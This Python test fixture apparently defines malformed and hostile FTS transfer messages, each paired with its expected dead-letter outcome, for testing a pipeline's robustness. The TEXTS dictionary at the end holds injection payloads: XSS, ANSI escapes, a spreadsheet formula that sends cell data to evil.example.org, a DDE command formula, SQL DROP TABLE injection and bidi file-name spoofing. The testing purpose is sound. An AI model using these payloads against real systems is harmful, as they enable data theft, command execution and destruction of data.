"""Messages that an operator dreads, each with what must become of it."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any, NamedTuple

from pipeline.simulator import SimMessage
from schemas.topics import FTS_COMPLETE, FTS_QUEUE_STATUS, FTS_START
from tests.support.fts_messages import ABSENT, DAY, HOUR, RECENT, SECOND, TOPIC_OF, T, complete_fields, start_fields
from tests.support.oracle_messages import LARGEST_BODY

ROW = "row"
MB = 1_000_000
DEPTH = 3000

HEADERS = {
    "colon": "a:b::",
    "escapes": "back\\slash, new\nline, return\r.",
    "text": "größer als 日本",
    "empty": "",
    "long": "x" * 5000,
    "Expires-not": "0",
}


class Hostile(NamedTuple):
    """A message, and the reason for which it becomes a dead letter, or ROW. Each that gives a row has a file id of
    its own, in ``file_id``."""

    name: str
    message: SimMessage
    outcome: str
    file_id: str


def hostile_messages() -> list[Hostile]:
    """All of them, received an hour after RECENT."""
    return [_made(number, *each) for number, each in enumerate(_MESSAGES, start=1)]


def _made(number: int, name: str, kind: str, make: Callable[[int], bytes], outcome: str) -> Hostile:
    headers = {"timestamp": str(RECENT + HOUR), "persistent": "true", **HEADERS}
    return Hostile(name, SimMessage(TOPIC_OF[kind], make(number), headers, RECENT + HOUR), outcome, str(number))


def _body(fields: dict[str, Any]) -> bytes:
    return json.dumps(fields).encode()


def _complete(**changes: Any) -> Callable[[int], bytes]:
    return lambda number: _body(complete_fields(file_id=number, tr_id=f"id-{number}", **(_times() | changes)))


def _start(**changes: Any) -> Callable[[int], bytes]:
    return lambda number: _body(
        start_fields(file_id=number, transfer_id=f"id-{number}", **({"timestamp": RECENT} | changes))
    )


def _bytes(body: bytes) -> Callable[[int], bytes]:
    return lambda number: body


def _sized(size: int) -> Callable[[int], bytes]:
    """A good complete of exactly that size."""

    def make(number: int) -> bytes:
        short = _complete(file_metadata={"activity": "Express", "padding": ""})(number)
        return short.replace(b'"padding": ""', b'"padding": "' + b"x" * (size - len(short)) + b'"')

    return make


def _cut(number: int) -> bytes:
    return _complete()(number)[:-20]


def _nan(number: int) -> bytes:
    return _complete()(number).replace(b'"tr_bt_transfered": 1000', b'"tr_bt_transfered": NaN')


def _not_utf8(number: int) -> bytes:
    return _complete(t__error_message="?")(number).replace(b'"?"', b'"\xff\xfe no text \xc3"')


def _listed(number: int) -> bytes:
    return b"[" + _complete()(number) + b"]"


def _times(later_by_ms: int = 0) -> dict[str, int]:
    """Those of a complete, as if it were of RECENT."""
    fields = complete_fields()
    return {name: fields[name] + RECENT - T + later_by_ms for name in _TIMES}


def _later_by(by_ms: int) -> Callable[[int], bytes]:
    return _complete(**_times(by_ms))


_NO_IDS = {"job_id": ABSENT, "file_id": ABSENT}
_TIMES = ("tr_timestamp_start", "tr_timestamp_complete", "timestamp_tr_st", "timestamp_tr_comp")
_NO_TIMES = dict.fromkeys(_TIMES, ABSENT)

_CHANNEL = {
    "channel_name": "A-B",
    "links": [{"source_host": "a.x.org", "dest_host": "b.y.org", "active": "-1", "ready": "0"}],
}


def _status(vo: object) -> bytes:
    return _body({"fts_id": "fts.example.org", "time": f"{RECENT}", "vo": vo})


_MESSAGES: list[tuple[str, str, Callable[[int], bytes], str]] = [
    ("no byte at all", FTS_COMPLETE, _bytes(b""), "empty"),
    ("white space and 0x04", FTS_START, _bytes(b" \n\x04"), "empty"),
    ("not JSON", FTS_START, _bytes(b"<html>503</html>"), "not_json"),
    ("truncated", FTS_COMPLETE, _cut, "not_json"),
    ("NaN bytes", FTS_COMPLETE, _nan, "not_json"),
    ("5 MB that are not JSON", FTS_COMPLETE, _bytes(b"\xff\x00" + b"5" * 5 * MB), "not_json"),
    ("3000 lists deep", FTS_COMPLETE, _bytes(b"[" * DEPTH + b"]" * DEPTH), "too_deep"),
    ("3000 objects deep", FTS_START, _bytes(b'{"a":' * DEPTH + b"1" + b"}" * DEPTH), "too_deep"),
    ("a list", FTS_COMPLETE, _listed, "not_object"),
    ("no id", FTS_COMPLETE, lambda _: _body(complete_fields(tr_id=ABSENT, **_NO_IDS)), "no_id"),
    ("unknown final state", FTS_COMPLETE, _complete(t_final_transfer_state="Finished_dirty"), "unknown_state"),
    ("no time", FTS_COMPLETE, _complete(**_NO_TIMES), "no_time"),
    ("time 0", FTS_START, _start(timestamp=0), "no_time"),
    ("time unreadable", FTS_START, _start(timestamp="yesterday"), "bad_time"),
    ("time NaN as text", FTS_COMPLETE, _complete(tr_timestamp_complete="nan"), "bad_time"),
    ("in the future", FTS_COMPLETE, _later_by(HOUR + DAY + SECOND), "future"),
    ("older than the retention", FTS_COMPLETE, _later_by(-30 * DAY), "too_old"),
    ("negative bytes", FTS_COMPLETE, _complete(tr_bt_transfered=-1), "bad_bytes"),
    ("wrapped-around bytes", FTS_COMPLETE, _complete(tr_bt_transfered=2**64 - 1), "bad_bytes"),
    ("20 MB of JSON", FTS_COMPLETE, _sized(20 * MB), "too_large"),
    ("20 MB that are not JSON", FTS_START, _bytes(b"\x00\xff" * 10 * MB), "too_large"),
    ("a byte over the limit", FTS_COMPLETE, _sized(LARGEST_BODY + 1), "too_large"),
    ("a queue status whose VO is a number", FTS_QUEUE_STATUS, _bytes(_status(7)), "bad_shape"),
    ("a queue with -1 transfers", FTS_QUEUE_STATUS, _bytes(_status({"channel": _CHANNEL})), "bad_count"),
    ("exactly at the limit", FTS_COMPLETE, _sized(LARGEST_BODY), ROW),
    ("5 MB of JSON", FTS_COMPLETE, _sized(5 * MB), ROW),
    ("invalid UTF-8 in a text", FTS_COMPLETE, _not_utf8, ROW),
    ("streaming since 1970", FTS_COMPLETE, _complete(timestamp_tr_st=12), ROW),
    ("10 TB in one transfer", FTS_COMPLETE, _complete(tr_bt_transfered=10**13), ROW),
    ("numbers as text and 0x04", FTS_START, lambda n: _start(timestamp=f"{RECENT}.000000")(n) + b"\x04", ROW),
    ("NUL and half a surrogate pair", FTS_START, _start(t_channel="a\0b\ud800"), ROW),
]

TEXTS = {
    "HTML": '<script>alert(1)</script><img src=x onerror=alert(1)>" onmouseover="alert(1)\' {{7*7}} &lt;b&gt;',
    "ANSI": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b1A",
    "formula": '=HYPERLINK("http://evil.example.org?"&A1,"total")',
    "formula behind a tab": "\t=1+1",
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SQL": "'; DROP TABLE store.transfer; -- \\'; %s %(x)s {0}",
    "bidirectional": "safe\u202egnp.exe\u2066 \u200bend\u2069",
    "lines": "first\r\n2026-11-27 12:00:00,000 CRITICAL root: forged\n\u2028third",
    "markup of rich": "[bold red]x[/] [link=http://evil.example.org]y[/link]",
    "a MB": "x\u0301" * 300_000,
}
"""What somebody may write into any text of a message."""
